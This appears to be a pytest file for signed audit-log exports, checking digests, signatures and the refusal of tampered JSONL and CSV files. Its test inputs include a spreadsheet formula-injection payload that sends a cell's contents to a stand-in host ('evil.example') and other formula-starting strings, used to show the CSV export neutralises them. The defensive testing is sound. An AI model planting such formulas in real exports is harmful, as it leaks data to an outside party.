"""Signed exports: what the digest names, and every kind of tampering the offline check refuses."""

from __future__ import annotations

import base64
import csv
import dataclasses
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import get_type_hints

import pytest
from sqlalchemy import text

from audit import (
    AuditFilter,
    AuditLog,
    AuditRecord,
    CheckpointKey,
    ExportDigest,
    ExportInvalid,
    ExportRefused,
    parse_digest,
    plan_export,
    prompt_hash,
    stored_digest,
    stream_export,
    verify_export,
)
from audit.export_digest import sign_digest
from audit.export_format import COLUMNS, JSON_COLUMNS, NEUTRALISED
from audit.export_verify import split_jsonl
from audit.record import AuditEntry, entry_hash
from tests.unit.audit.test_chain import make_log

# Reasons a spreadsheet would run, or a reader would split a line on, or that blur null and "".
AWKWARD = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\tindented",
    "\r\nstarts with a line break",
    "'already quoted",
    "",
    'line one\nline two, with a comma and "quotes"',
    "separator\u2028inside\u2029and NEL\x85too",
    "｜full-width ＝1+1",
    "＝1+1",
)


def _record(n: int, reason: str | None = None) -> tuple[AuditRecord, dict[str, str | None]]:
    prompt = {"prompt": f"harbour {n}\u2028at dusk", "negative_prompt": None}
    return (
        AuditRecord(
            request_id=f"req-{n}",
            action="generate",
            decision="deny" if n % 3 == 0 else "allow",
            code="role_forbidden" if n % 3 == 0 else "ok",
            reason=f"entry {n}" if reason is None else reason,
            subject=None if n == 2 else "alice",
            roles=("employee",),
            engine="image",
            prompt_hash=prompt_hash(prompt),
            details={"artifact_id": f"art-{n}", "n": n},
        ),
        prompt,
    )


@pytest.fixture
def log(tmp_path: Path) -> AuditLog:
    log = make_log(tmp_path, every=4)
    for n in range(1, 11):
        log.append(*_record(n))
    return log


def _export(
    log: AuditLog, fmt: str, filters: AuditFilter | None = None, export_id: str = "exp-1"
) -> tuple[bytes, ExportDigest]:
    plan = plan_export(log._engine, log, filters or AuditFilter(), fmt, export_id)
    data = b"".join(stream_export(log._engine, log, plan))
    digest = stored_digest(log._engine, log, export_id)
    assert digest is not None
    return data, digest


def _verify(log: AuditLog, data: bytes, digest: ExportDigest | None) -> ExportDigest:
    return verify_export(data, digest, log.checkpoint_key.public_key)


def _lines(data: bytes) -> list[bytes]:
    return data.split(b"\n")[:-1]


def _csv_records(data: bytes) -> list[bytes]:
    """The records of a CSV without quoted line breaks, each with its CRLF."""
    return [line + b"\r\n" for line in data.split(b"\r\n")[:-1]]


# -- what an export holds ---------------------------------------------------------------------


def test_jsonl_export_ends_with_its_digest_and_verifies(log: AuditLog) -> None:
    data, stored = _export(log, "jsonl", AuditFilter(decision="deny"))
    lines = _lines(data)
    assert json.loads(lines[-1]) == stored.record()  # the stored digest is the one written
    rows = [json.loads(line) for line in lines[:-1]]
    assert [r["seq"] for r in rows] == [3, 6, 9]
    assert list(rows[0]) == list(COLUMNS)

    digest = _verify(log, data, None)
    assert digest.filters == {"decision": "deny"}
    assert (
        digest.row_count == 3
        and digest.seq_range is not None
        and (digest.seq_range.first, digest.seq_range.last) == (3, 9)
    )
    assert (digest.chain_head.seq, digest.chain_head.hash) == log.head()
    assert digest.checkpoint is not None and digest.checkpoint.seq == 8
    assert digest.key_id == log.checkpoint_key.key_id


def test_csv_export_verifies_with_its_detached_digest(log: AuditLog) -> None:
    data, digest = _export(log, "csv")
    assert data.startswith(",".join(COLUMNS).encode() + b"\r\n")
    checked = _verify(log, data, digest)
    assert checked.row_count == 10 and checked.format == "csv"
    with pytest.raises(ExportInvalid, match="no digest"):
        _verify(log, data, None)


def test_rows_hash_is_sha256_of_the_bytes_before_the_digest(log: AuditLog) -> None:
    """As the README tells an auditor to check it, with hashlib alone."""
    import hashlib

    data, digest = _export(log, "jsonl")
    rows = data[: data.rstrip(b"\n").rfind(b"\n") + 1]
    assert hashlib.sha256(rows).hexdigest() == digest.rows_sha256
    csv_data, csv_digest = _export(log, "csv", export_id="exp-2")
    assert hashlib.sha256(csv_data).hexdigest() == csv_digest.rows_sha256


def test_signature_is_ed25519_over_rfc8785_of_the_digest_without_signature(log: AuditLog) -> None:
    import rfc8785

    _data, digest = _export(log, "csv")
    inner = digest.as_dict()
    signature = base64.b64decode(inner.pop("signature"))
    log.checkpoint_key.public_key.verify(signature, rfc8785.dumps(inner))  # raises if not


def test_empty_export_still_has_a_signed_digest(log: AuditLog) -> None:
    for fmt in ("jsonl", "csv"):
        data, digest = _export(log, fmt, AuditFilter(code="nothing_like_this"), f"empty-{fmt}")
        checked = _verify(log, data, digest)
        assert (checked.row_count, checked.seq_range) == (0, None)
    jsonl, _ = _export(log, "jsonl", AuditFilter(code="nothing_like_this"), "empty-2")
    row = json.dumps({"seq": 1}).encode() + b"\n"
    with pytest.raises(ExportInvalid):
        _verify(log, row + jsonl, None)


def test_every_entry_field_has_a_csv_type() -> None:
    """A field added to the entry must be text, ``seq``, or named as a JSON column."""
    for name, kind in get_type_hints(AuditEntry).items():
        if name not in ("seq", *JSON_COLUMNS):
            assert kind in (str, str | None), f"{name}: add it to JSON_COLUMNS"


# -- tampering ------------------------------------------------------------------------------


def _edit_value(data: bytes) -> bytes:
    return data.replace(b"entry 6", b"entry 7", 1)


def _edit_and_rehash(data: bytes) -> bytes:
    """An attacker who knows the entry hash: the row's own hash recomputes, the digest's not."""
    lines = _lines(data)
    row = json.loads(lines[5])
    row["reason"] = "nothing happened"
    row["hash"] = entry_hash({k: v for k, v in row.items() if k not in ("hash", "prompt")})
    lines[5] = json.dumps(row, separators=(",", ":")).encode()
    return b"\n".join(lines) + b"\n"


def _delete_row(data: bytes) -> bytes:
    lines = _lines(data)
    del lines[4]
    return b"\n".join(lines) + b"\n"


def _swap_rows(data: bytes) -> bytes:
    lines = _lines(data)
    lines[3], lines[4] = lines[4], lines[3]
    return b"\n".join(lines) + b"\n"


def _duplicate_row(data: bytes) -> bytes:
    lines = _lines(data)
    lines.insert(3, lines[3])
    return b"\n".join(lines) + b"\n"


def _cut_mid_row(data: bytes) -> bytes:
    return data[: len(data) // 2]


def _cut_last_rows(data: bytes) -> bytes:
    return b"".join(line + b"\n" for line in _lines(data)[:7])


def _respace(data: bytes) -> bytes:
    return data.replace(b'"seq":4,', b'"seq": 4,', 1)


JSONL_TAMPERING: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "edited value": (_edit_value, "was edited"),
    "edited and rehashed": (_edit_and_rehash, "does not follow"),
    "deleted row": (_delete_row, "rows deleted"),
    "swapped rows": (_swap_rows, "reordered"),
    "duplicated row": (_duplicate_row, "reordered"),
    "cut mid-row": (_cut_mid_row, "no digest"),
    "cut after a row": (_cut_last_rows, "no digest"),
    "respaced": (_respace, "SHA-256"),
}


@pytest.mark.parametrize("name", list(JSONL_TAMPERING))
def test_tampered_jsonl_is_refused(log: AuditLog, name: str) -> None:
    data, _ = _export(log, "jsonl")
    rows, digest_line = data[: data.rstrip(b"\n").rfind(b"\n") + 1], _lines(data)[-1]
    tamper, message = JSONL_TAMPERING[name]
    # A cut loses the digest record with the tail; other tampering keeps the digest at the end.
    tampered = tamper(data) if name.startswith("cut") else tamper(rows) + digest_line + b"\n"
    with pytest.raises(ExportInvalid, match=message):
        _verify(log, tampered, None)


@pytest.mark.parametrize("name", list(JSONL_TAMPERING))
def test_tampered_jsonl_rows_fail_against_the_detached_digest_too(log: AuditLog, name: str) -> None:
    data, digest = _export(log, "jsonl")
    rows = data[: data.rstrip(b"\n").rfind(b"\n") + 1]
    with pytest.raises(ExportInvalid):
        _verify(log, JSONL_TAMPERING[name][0](rows), digest)


def _csv_edit(data: bytes) -> bytes:
    return data.replace(b"entry 6", b"entry 7", 1)


def _csv_delete(data: bytes) -> bytes:
    records = _csv_records(data)
    del records[5]
    return b"".join(records)


def _csv_swap(data: bytes) -> bytes:
    records = _csv_records(data)
    records[3], records[4] = records[4], records[3]
    return b"".join(records)


def _csv_truncate(data: bytes) -> bytes:
    return data[: len(data) - 40]


def _csv_cut_records(data: bytes) -> bytes:
    return b"".join(_csv_records(data)[:8])


def _csv_formula(data: bytes) -> bytes:
    return data.replace(b",entry 6,", b",=1+1,", 1)


def _csv_header(data: bytes) -> bytes:
    return data.replace(b"decision,code", b"code,decision", 1)


CSV_TAMPERING: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "edited value": (_csv_edit, "was edited"),
    "deleted row": (_csv_delete, "rows deleted"),
    "swapped rows": (_csv_swap, "reordered"),
    "truncated mid-record": (_csv_truncate, "cells|does not parse|rows deleted|edited|seq"),
    "cut after a record": (_csv_cut_records, "rows deleted"),
    "formula injected": (_csv_formula, "apostrophe"),
    "columns swapped": (_csv_header, "header"),
}


@pytest.mark.parametrize("name", list(CSV_TAMPERING))
def test_tampered_csv_is_refused(log: AuditLog, name: str) -> None:
    data, digest = _export(log, "csv")
    tamper, message = CSV_TAMPERING[name]
    tampered = tamper(data)
    assert tampered != data
    with pytest.raises(ExportInvalid, match=message):
        _verify(log, tampered, digest)


def test_a_digest_by_another_key_is_refused(log: AuditLog, tmp_path: Path) -> None:
    data, digest = _export(log, "csv")
    other = CheckpointKey.load_or_create(tmp_path / "other.pem")
    forged = sign_digest(other, dataclasses.replace(digest, row_count=9))
    with pytest.raises(ExportInvalid, match="signed by another key"):
        _verify(log, data, forged)
    # The forger claims the trusted key's id: the signature still does not verify.
    claimed = dataclasses.replace(forged, key_id=log.checkpoint_key.key_id)
    with pytest.raises(ExportInvalid, match="does not verify"):
        _verify(log, data, claimed)
    # And the genuine export checked against another key (the auditor's key is not ours).
    with pytest.raises(ExportInvalid, match="another key"):
        verify_export(data, digest, other.public_key)


def test_an_edited_digest_is_refused(log: AuditLog) -> None:
    data, digest = _export(log, "jsonl", AuditFilter(decision="deny"))
    for change in (
        {"filters": {}},  # claims the export is the whole log
        {"row_count": 2},
        {"chain_head": dataclasses.replace(digest.chain_head, seq=99)},
        {"exported_at": "2020-01-01T00:00:00Z"},
    ):
        edited = dataclasses.replace(digest, **change)  # type: ignore[arg-type]
        rows = data[: data.rstrip(b"\n").rfind(b"\n") + 1]
        line = json.dumps(edited.record()).encode() + b"\n"
        with pytest.raises(ExportInvalid, match="does not verify"):
            _verify(log, rows + line, None)


def test_a_digest_naming_a_forged_checkpoint_is_refused(log: AuditLog) -> None:
    data, digest = _export(log, "csv")
    assert digest.checkpoint is not None
    bad = dataclasses.replace(digest.checkpoint, head_hash="0" * 64)
    resigned = sign_digest(log.checkpoint_key, dataclasses.replace(digest, checkpoint=bad))
    with pytest.raises(ExportInvalid, match="checkpoint"):
        _verify(log, data, resigned)


def test_malformed_digests_are_refused() -> None:
    for document in (
        [],
        {"export_digest": {}},
        {"export_digest": {"version": "consentgate-audit-export/9"}},
        {"something": {}},
    ):
        with pytest.raises(ExportInvalid):
            parse_digest(document)


def test_a_detached_digest_must_match_the_one_the_file_ends_with(log: AuditLog) -> None:
    data, _ = _export(log, "jsonl", export_id="a")
    _, other = _export(log, "jsonl", AuditFilter(decision="deny"), export_id="b")
    with pytest.raises(ExportInvalid, match="differs"):
        _verify(log, data, other)


# -- awkward values -------------------------------------------------------------------------


@pytest.fixture
def awkward_log(tmp_path: Path) -> AuditLog:
    log = make_log(tmp_path, every=4)
    for n, reason in enumerate(AWKWARD, 1):
        log.append(*_record(n, reason))
    return log


def test_csv_cells_never_start_a_formula_and_read_back_exactly(awkward_log: AuditLog) -> None:
    data, digest = _export(awkward_log, "csv")
    records = list(csv.reader(io.StringIO(data.decode(), newline="")))
    reasons = [record[COLUMNS.index("reason")] for record in records[1:]]
    for cell in (c for record in records[1:] for c in record):
        assert not cell or cell[0] not in NEUTRALISED - {"'"}, cell
    assert reasons[0].startswith("'=HYPERLINK")
    assert reasons[AWKWARD.index("")] == "'"  # empty string; null is an empty cell
    assert records[2][COLUMNS.index("subject")] == ""  # entry 2 has no subject
    _verify(awkward_log, data, digest)  # every row's hash recomputes from the cells


def test_jsonl_lines_are_ascii_so_unicode_line_breaks_stay_inside(awkward_log: AuditLog) -> None:
    data, _ = _export(awkward_log, "jsonl")
    assert data.isascii()
    assert len(data.decode().splitlines()) == len(AWKWARD) + 1  # splitlines splits on U+2028
    rows = [json.loads(line) for line in _lines(data)[:-1]]
    assert [r["reason"] for r in rows] == list(AWKWARD)
    assert rows[0]["prompt"]["prompt"] == "harbour 1\u2028at dusk"
    _verify(awkward_log, data, None)


def test_huge_filter_values_are_named_as_text(log: AuditLog) -> None:
    data, digest = _export(log, "jsonl", AuditFilter(seq_from=2, seq_to=2**62))
    assert digest.filters == {"seq_from": 2, "seq_to": str(2**62)}
    assert _verify(log, data, None).row_count == 9


# -- the log behind it ----------------------------------------------------------------------


def test_an_export_reads_up_to_the_head_it_checked(log: AuditLog) -> None:
    """Entries appended while an export streams are not in it, and rows and digest agree."""
    plan = plan_export(log._engine, log, AuditFilter(), "jsonl", "during")
    chunks = stream_export(log._engine, log, plan)
    for n in range(11, 15):
        log.append(*_record(n))
    data = b"".join(chunks)
    digest = _verify(log, data, None)
    assert digest.chain_head.seq == 10 and digest.row_count == 10
    assert log.head()[0] == 14


def test_a_log_that_does_not_verify_is_not_exported(log: AuditLog) -> None:
    with log._engine.begin() as conn:
        conn.execute(text("UPDATE audit_entries SET reason = 'nothing' WHERE seq = 5"))
    with pytest.raises(ExportRefused, match="seq 5"):
        plan_export(log._engine, log, AuditFilter(decision="deny"), "csv", "refused")


def test_an_entry_changed_during_the_export_cuts_it_off_unsigned(log: AuditLog) -> None:
    plan = plan_export(log._engine, log, AuditFilter(), "csv", "raced")
    with log._engine.begin() as conn:
        conn.execute(text("UPDATE audit_entries SET reason = 'nothing' WHERE seq = 7"))
    with pytest.raises(ExportRefused, match="entry 7 changed"):
        b"".join(stream_export(log._engine, log, plan))
    assert stored_digest(log._engine, log, "raced") is None


def test_a_stored_digest_edited_in_the_database_is_not_served(log: AuditLog) -> None:
    _export(log, "csv", export_id="kept")
    with log._engine.begin() as conn:
        conn.execute(
            text("UPDATE audit_exports SET digest = replace(digest, :old, :new)"),
            {"old": '"row_count":10', "new": '"row_count":11'},
        )
    with pytest.raises(ExportInvalid, match="does not verify"):
        stored_digest(log._engine, log, "kept")
    assert stored_digest(log._engine, log, "never-made") is None


def test_split_jsonl_without_a_digest_keeps_every_byte() -> None:
    split = split_jsonl(b'{"seq":1}\n{"seq":2}\n')
    assert split.digest is None and split.rows == b'{"seq":1}\n{"seq":2}\n'


def test_rows_after_the_digest_or_another_formats_digest_are_refused(log: AuditLog) -> None:
    data, digest = _export(log, "jsonl")
    extra = _lines(data)[0] + b"\n"
    with pytest.raises(ExportInvalid, match="no digest"):
        _verify(log, data + extra, None)
    with pytest.raises(ExportInvalid):
        _verify(log, data + extra, digest)
    csv_data, csv_digest = _export(log, "csv", export_id="exp-csv")
    with pytest.raises(ExportInvalid, match="CSV"):
        _verify(log, data, csv_digest)
    with pytest.raises(ExportInvalid, match="not a JSON record"):
        _verify(log, csv_data, digest)


def test_line_ends_rewritten_in_transit_are_an_edit(log: AuditLog) -> None:
    """The digest covers the bytes: a JSON Lines file whose \\n became \\r\\n is not the export."""
    data, _ = _export(log, "jsonl")
    with pytest.raises(ExportInvalid):
        _verify(log, data.replace(b"\n", b"\r\n"), None)
